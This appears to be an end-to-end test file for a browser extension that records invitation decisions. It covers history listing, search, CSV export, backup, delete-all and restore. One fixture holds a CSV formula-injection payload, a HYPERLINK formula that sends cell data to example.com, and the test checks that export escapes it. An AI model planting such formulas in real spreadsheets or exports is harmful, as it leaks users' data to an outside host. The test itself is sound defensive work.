import Papa from 'papaparse';
import { afterAll, beforeAll, expect } from 'vitest';
import { chooseFiles } from '../../scripts/drive/choose-files.ts';
import { answersOf } from './harness/answers.ts';
import { copy, openEditor } from './harness/asking.ts';
import { pendingOf, soon } from './harness/deeds.ts';
import { Downloads } from './harness/downloads.ts';
import { settled, visitHtml } from './harness/open.ts';
import { OwnPage } from './harness/own-page.ts';
import { savedInvitations } from './harness/saved.ts';
import { stories } from './harness/stories.ts';

const formula = '=HYPERLINK("https://example.com?"&A1,"Free money")';
const page = savedInvitations('history', [
  { name: 'Ada Quillfeather', slug: 'ada-quillfeather-4b21' },
  { name: 'Bodo Sternschuppe', slug: 'bodo-sternschuppe' },
  { name: 'Eve Formula', slug: 'eve-formula', headline: [formula] },
]);

const named = (name = ''): RegExp => new RegExp(`^${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`);

stories('what is remembered', (stage, story) => {
  let downloads: Downloads;

  beforeAll(async () => {
    downloads = await Downloads.of(stage.browser);
    await stage.browser.ask('settings.set', { holdSeconds: 0 });
  });
  afterAll(() => downloads?.remove());

  const openOptions = async (place: string): Promise<OwnPage> =>
    new OwnPage(await stage.browser.openExtensionPage(`src/options/index.html#${place}`));

  story('is listed as it happens, can be put right, searched and sifted', async () => {
    const { open, deeds } = stage;
    // Open from the beginning: it follows what happens.
    const history = await openOptions('history');
    await history.says(/No history yet/);
    const row = async (name = ''): Promise<string> =>
      (await history.all('h3 button')).find((one) => one.startsWith(name)) ?? '';
    const opened = await open({ seed: 61, count: 8 });
    const { tab, sidebar } = opened;
    const [declined, accepted, ...others] = await pendingOf(tab);
    const gone = others.at(-1);
    await soon(async () => expect(await row(gone?.name)).toMatch(/Pending/));
    await sidebar.press('button', /^Decline$/);
    await soon(async () => expect(await deeds()).toEqual([`decline ${declined?.id} decided sidebar`]));
    await sidebar.press('button', /^Accept$/);
    await soon(async () => expect((await deeds())[1]).toBe(`accept ${accepted?.id} decided sidebar`));
    await sidebar.press('entry', /./);
    await openEditor(opened, copy);
    await sidebar.press('button', copy);
    await sidebar.press('button', /^I sent it/);
    await soon(async () => expect((await deeds())[2]).toMatch(/ replied clipboard$/));
    const [replied] = (await deeds())[2]?.split(' ') ?? [];
    const asked = others.find(({ id }) => id === replied);
    // One is taken back; whoever comes back to the page sees that it is no longer there.
    await tab.page.evaluate(`standIn.withdraw(${JSON.stringify(gone?.id)}); standIn.navigate('/feed/')`);
    await sidebar.isGone();
    await tab.page.evaluate(`standIn.navigate('/mynetwork/invitation-manager/received/')`);
    await soon(async () => expect(await row(gone?.name)).toMatch(/Gone, undecided here/));
    expect(await row(declined?.name)).toMatch(/Declined/);
    expect(await row(accepted?.name)).toMatch(/Accepted/);
    expect(await row(asked?.name)).toMatch(/Waiting for an answer/);

    await history.press(named(declined?.name));
    await history.says(/Suggested: .+ By “Selective”, version 1 .+ You declined in the sidebar/);
    await history.press(/^Correct/);
    await history.press(/^I accepted$/);
    await history.says(/You said: accepted/);
    await history.page.close();

    const again = await openOptions('history');
    const listed = async (): Promise<string[]> => await again.all('h3 button');
    await soon(async () => expect(await listed()).toHaveLength(8));
    expect((await listed()).find((one) => one.startsWith(declined?.name ?? '?'))).toMatch(
      /Accepted, you say/,
    );
    await again.choose(/^What you did$/, 'Accepted');
    await soon(async () => expect(await listed()).toHaveLength(2));
    await again.write(/^Search names/, accepted?.name ?? '');
    await soon(async () => expect(await listed()).toEqual([expect.stringMatching(named(accepted?.name))]));
    await again.write(/^Search names/, ' ');
    await again.choose(/^What you did$/, 'Any');
    await again.press(/^Waiting for an answer$/);
    await soon(async () => expect(await listed()).toEqual([expect.stringMatching(named(asked?.name))]));
    await again.page.close();
  });

  story(
    'goes into a file and comes back: after a backup, “delete all” and a restore, every answer is the same',
    async () => {
      const { browser } = stage;
      const count = (await answersOf(browser)).history.entries.length + 3;
      await browser.ask('settings.set', { policy: 'ten-minute-conversation' });
      const who = { id: null, name: 'Ada Quillfeather', profile: 'ada-quillfeather-4b21' };
      const talk = { minutes: 25, channel: 'video', place: null, note: 'About telescopes' } as const;
      await browser.ask('conversation.save', { id: 'talk-1', who, time: Date.now(), ...talk });
      await browser.ask('entry.save', { list: 'blocked', kind: 'person', value: 'bodo-sternschuppe' });
      const suggested = async () => {
        const { tab } = await visitHtml(browser, page);
        const record = await settled(browser, tab);
        await stage.browser.leaveTab(tab);
        return record?.invitations.map(({ suggestion: { verdict, certain } }) => `${verdict} ${certain}`);
      };
      expect(await suggested()).toEqual(['accept true', 'decline true', 'decline true']);
      const before = await answersOf(browser);
      expect(before.history.entries).toHaveLength(count);
      expect([before.talks.total, before.lists.entries.length]).toEqual([1, 1]);

      const data = await openOptions('data');
      await data.press(/^Save as CSV$/);
      const csv = await downloads.arrived(/\.csv$/);
      const cells = Papa.parse<string[]>(csv.text.slice(1), { skipEmptyLines: true }).data;
      expect(cells).toHaveLength(count + 1);
      expect(cells.flat()).toContain(`'${formula}`);
      expect(cells.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
      await data.press(/^Save a backup$/);
      const backup = await downloads.arrived(/\.json$/);
      expect(JSON.parse(backup.text)).toMatchObject({ tables: { conversations: [{ id: 'talk-1' }] } });

      await data.write(/^Type “delete”/, 'delete');
      await data.press(/^Delete everything$/);
      await data.says(/Everything was deleted/);
      const nothing = await answersOf(browser);
      expect(nothing).toMatchObject({
        history: { entries: [] },
        talks: { total: 0 },
        lists: { entries: [] },
      });
      expect(nothing.record.deeds).toEqual([]);

      await chooseFiles(data.page, 'input[type="file"][hidden]', [backup.path]);
      await data.press(/^Replace ?Deletes/);
      await data.press(/^Replace everything$/);
      await data.says(/The backup was restored/);
      expect(await answersOf(browser)).toEqual(before);
      expect(await suggested()).toEqual(['accept true', 'decline true', 'decline true']);

      // Firefox asks the user first, and nobody answers here.
      if (stage.kind === 'firefox') return await data.page.close();
      await data.says(new RegExp(`Invitations: ${count}\\. People: ${count}\\. Conversations: 1\\.`));
      await data.press(/^Ask it not to$/);
      await data.says(/The browser (?:does not promise to keep|has promised not to clear) this data/);
      const kept = await data.page.evaluate('navigator.storage.persisted()');
      await data.says(kept === true ? /has promised not to clear/ : /does not promise to keep/);
      await data.page.close();
    },
  );
});
